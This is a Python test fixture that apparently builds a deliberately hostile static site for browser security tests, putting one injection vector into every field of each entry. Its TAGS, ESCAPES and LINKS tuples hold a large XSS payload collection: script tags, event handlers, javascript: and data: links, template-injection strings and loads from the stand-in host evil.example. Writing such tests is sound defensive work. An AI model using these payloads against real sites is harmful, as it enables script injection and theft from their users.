"""Owns a board that is hostile wherever its authors can write: each entry has one vector in all of its texts.

Every vector that runs sets `window.ran`, opens a dialog or asks another host. No check is asked: what
they would stop is on the pages.
"""

import json

from browser.serving import ServedSite
from gongkai.web_address import read_address

BUILD_DAY = "2026-11-13"

# Markup that would run as it stands.
TAGS = (
    "<script>window.ran=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.ran=1></script>",
    "<script type=module>window.ran=1</script>",
    "<ScRiPt>window.ran=1</sCrIpT>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "<script/x>window.ran=1</script/x>",
    "<script>window.ran=1//",
    "<<script>window.ran=1//<</script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=window.ran=1 //",
    '<img src="x`y" onerror=window.ran=1>',
    "<img/src/onerror=window.ran=1>",
    "<IMG SRC=x OnErRoR=window.ran=1>",
    "<img src=//evil.example/x.png>",
    "<img srcset=//evil.example/x.png>",
    "<svg onload=window.ran=1>",
    "<svg/onload=window.ran=1//",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.ran=1><text y=9>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "<math href=javascript:window.ran=1>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><script>window.ran=1</script></template>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<p style=background:url(//evil.example/x.png)>x</p>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=x autofocus onfocus=window.ran=1></form>",
    "<button formaction=javascript:window.ran=1>x</button>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<audio src=x onerror=window.ran=1>",
    "<body onload=window.ran=1>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<a href=javascript:window.ran=1>x</a>",
    "<a href='java&#9;script:window.ran=1'>x</a>",
    "<a href=//evil.example/ ping=//evil.example/>x</a>",
    "<p id=gk-content tabindex=1 onfocus=window.ran=1 autofocus>x</p>",
    "<input type=image src=//evil.example/x onerror=window.ran=1>",
    "<table background=//evil.example/x><td background=//evil.example/y>x</table>",
    "<x onclick=window.ran=1 onpointerover=window.ran=1>x</x>",
)
# Text that leaves where it stands: an attribute, a title, a comment, a script's data, a template.
ESCAPES = (
    '"><script>window.ran=1</script>',
    "'><img src=x onerror=window.ran=1>",
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1" x="',
    "' onfocus='window.ran=1' autofocus x='",
    "</title><script>window.ran=1</script>",
    "</textarea></select></script><script>window.ran=1</script>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script>",
    "*/</style><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "<!--<script>window.ran=1</script>",
    '\\"};window.ran=1;//',
    "'-window.ran=1-'",
    "`${window.ran=1}`",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "{% endraw %}{{ 7 * 7 }}{% raw %}",
    "{{ 7 * 7 }}{{ config.__class__ }}{% for x in () %}{% endfor %}",
    "\u202e\u2066<img src=x onerror=window.ran=1>\u2069",
)
# Addresses that run, and what Markdown makes links of.
LINKS = (
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "&#106;avascript:window.ran=1",
    "java&Tab;script:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:window.ran=1",
    "[x](javascript:window.ran=1)",
    "[x](<javascript:window.ran=1>)",
    '![x](x.png"onerror="window.ran=1)',
    '![x" onerror="window.ran=1](x.png)',
    "[x]: javascript:window.ran=1 'x'",
    "<javascript:window.ran=1>",
    '<https://example.com/"onmouseover="window.ran=1>',
)
VECTORS = TAGS + ESCAPES + LINKS


def as_file_name(vector: str) -> str:
    """The vector as the name of a file, as far as a disk takes it."""
    return vector.translate(dict.fromkeys(map(ord, "/\\:"), "_"))[:80].strip(" .'") + ".txt"


def _way(kind: str, vector: str) -> str:
    """The vector, but where an address is read and it is none that any page would name."""
    is_refused = kind == "web" and read_address(vector).flaw
    return "https://example.com/" if is_refused else vector


def _entry(number: int, vector: str) -> str:
    front = {
        "title": vector,
        "department": f"{vector[:60]}部",
        "published_on": "2026-11-10",
        "number": f"{vector[:90]} {number}",
        "summary": vector,
        "review": {
            "working_days": 5,
            "extensions": [
                {"decided_on": "2026-11-12", "last_day": "2026-11-20", "reason": vector}
            ],
        },
        "fields": {"words": vector, "people": [vector], "kind": vector[:30]},
        "tables": [
            {"title": vector, "columns": {vector: "text"}, "rows": [[vector]]},
            {"title": vector, "file": "cells.csv"},
        ],
        "attachments": [{"file": as_file_name(vector), "title": vector}],
        "respond": {
            "who": vector,
            "form": vector,
            "promise": vector,
            "ways": [
                {"kind": kind, "label": vector, "value": _way(kind, vector)}
                for kind in ("phone", "email", "visit", "letter", "web")
            ],
        },
        "objections": [
            {"received_on": "2026-11-11", "summary": vector, "reply": vector}
            | {"replied_on": "2026-11-12", "result": "declined"}
        ],
        "corrections": [{"corrected_on": "2026-11-12", "note": vector}],
        "aliases": [f"kind-{number % 5}/2026-11-09-old-{number}"],
    }
    if number % 9 == 8:
        front["withdrawn"] = {"withdrawn_on": "2026-11-12", "reason": vector}
    body = (
        f"甲 {vector} 乙",
        f"## {vector}",
        f"[甲]({vector}) [甲]: ![{vector}](x.png) ![甲]({vector}) <{vector}>",
        f"| 甲 | 乙 |\n| --- | --- |\n| {vector} | `{vector}` |",
        f"[乙][丙]\n\n[丙]: {vector}",
        f"- {vector}\n\n> {vector}",
        f"**{vector}**",
        vector,
    )
    return f"---\n{json.dumps(front, ensure_ascii=False)}\n---\n" + "\n\n".join(body) + "\n"


def _category(number: int) -> str:
    one, two, three, four = VECTORS[number * 11 : number * 11 + 4]
    return json.dumps(
        {
            "name": one,
            "description": two,
            "review": {"required": False, "source": three, "next": four},
            "fields": {
                "words": {"label": three, "type": "text", "unit": four},
                "people": {"label": two, "type": "person", "many": True},
                "kind": {
                    "label": one,
                    "type": "choice",
                    "choices": sorted({vector[:30] for vector in VECTORS}),
                },
            },
            "retention": {
                "after": "closed",
                "days": 9,
                "action": "keep",
                "source": four,
                "certainty": "low",
            },
        },
        ensure_ascii=False,
    )


def _school() -> str:
    departments = sorted({f"{vector[:60]}部" for vector in VECTORS})
    return json.dumps(
        {
            "name": "{% endraw %}{{ 7 * 7 }}</title><script>window.ran=1</script>",
            "office": '{{ 7 * 7 }}"><img src=x onerror=window.ran=1>',
            "departments": {f"d-{at}": {"name": name} for at, name in enumerate(departments)},
            "respond": {
                "who": VECTORS[0],
                "form": VECTORS[9],
                "promise": VECTORS[50],
                "ways": [{"kind": "web", "label": VECTORS[1], "value": 'https://e/"onclick=x'}],
            },
        },
        ensure_ascii=False,
    )


def _files() -> dict[str, str]:
    files = {"_school.yml": _school()}
    files |= {f"_catalogue/kind-{number}.yml": _category(number) for number in range(5)}
    for number, vector in enumerate(VECTORS):
        folder = f"kind-{number % 5}/2026-11-10-entry-{number}"
        cell = vector.replace('"', '""')
        files[f"{folder}/index.md"] = _entry(number, vector)
        files[f"{folder}/cells.csv"] = f'列,"{cell}"\n"{cell}",一\n'
        files[f"{folder}/{as_file_name(vector)}"] = vector
    return files


FILES = _files()


def entry_address(number: int) -> str:
    """Where the entry of that vector stands."""
    return f"kind-{number % 5}/2026-11-10-entry-{number}/"


def other_addresses(site: ServedSite) -> tuple[list[str], list[str]]:
    """Every other page of the site: those to open, and those like them, redirects too, to be read only.

    Pages of docs/ aren't changed by the board.
    """
    pages = sorted(path.parent for path in site.folder.rglob("index.html"))
    found = [f"{page.relative_to(site.folder).as_posix()}/".removeprefix("./") for page in pages]
    entries = {entry_address(number) for number in range(len(VECTORS))}
    docs = ("handbook/", "rules/", "about/", "architecture/")
    found = [each for each in found if each not in entries and not each.startswith(docs)]
    alike = [each for each in found if "/old-" in each.replace("2026-11-09-", "")]
    alike += [each for each in found if each.startswith("departments/d-")][4:]
    return [each for each in found if each not in alike] + ["404.html"], alike
